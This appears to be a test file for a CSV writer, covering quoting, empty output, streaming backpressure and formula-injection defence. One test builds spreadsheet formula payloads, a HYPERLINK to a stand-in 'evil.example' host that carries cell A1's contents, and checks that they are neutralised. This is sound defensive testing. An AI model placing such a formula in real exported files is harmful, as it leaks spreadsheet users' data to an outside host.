import { parse } from 'csv-parse/sync';
import { Writable } from 'node:stream';
import { csvText, streamCsv } from './csv-writer';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('the CSV writer', () => {
  it('writes RFC 4180: a header, CRLF line ends, quotes only where a field needs them', () => {
    const text = csvText(['name', 'note', 'count'], [['Acme, Ltd', 'says "hi"', 3], ['Plain', null, -2]]);
    expect(text).toBe('name,note,count\r\n"Acme, Ltd","says ""hi""",3\r\nPlain,,-2\r\n');
  });

  it('neutralises every text cell that starts like a formula, and leaves numbers as numbers', () => {
    const rows = TRIGGERS.map((trigger) => [`${trigger}HYPERLINK("http://evil.example/?x="&A1,"click")`, -5]);
    const parsed = parse(csvText(['text', 'number'], rows), { columns: true }) as Array<{ text: string; number: string }>;
    expect(parsed.map((row) => row.text)).toEqual(rows.map(([text]) => `'${text}`));
    expect(parsed.every((row) => row.number === '-5')).toBe(true);
  });

  it('writes the header alone when there are no rows', () => {
    expect(csvText(['a', 'b'], [])).toBe('a,b\r\n');
  });

  it('streams rows as the reader takes them, and stops reading rows when the reader goes away', async () => {
    let produced = 0;
    let stopped = false;
    async function* rows() {
      try {
        for (;;) yield [`Row ${++produced}`, 'x'.repeat(1_000)];
      } finally {
        stopped = true;
      }
    }
    let received = 0;
    const reader = new Writable({
      highWaterMark: 1_024,
      write(chunk: Buffer, _encoding, done) {
        received += chunk.length;
        if (received > 200_000) this.destroy();
        done();
      },
    });
    await streamCsv(reader, ['name', 'padding'], rows());
    expect(stopped).toBe(true);
    // Backpressure: far fewer rows were made than an endless source would have pushed into memory.
    expect(produced).toBeLessThan(400);
  });
});
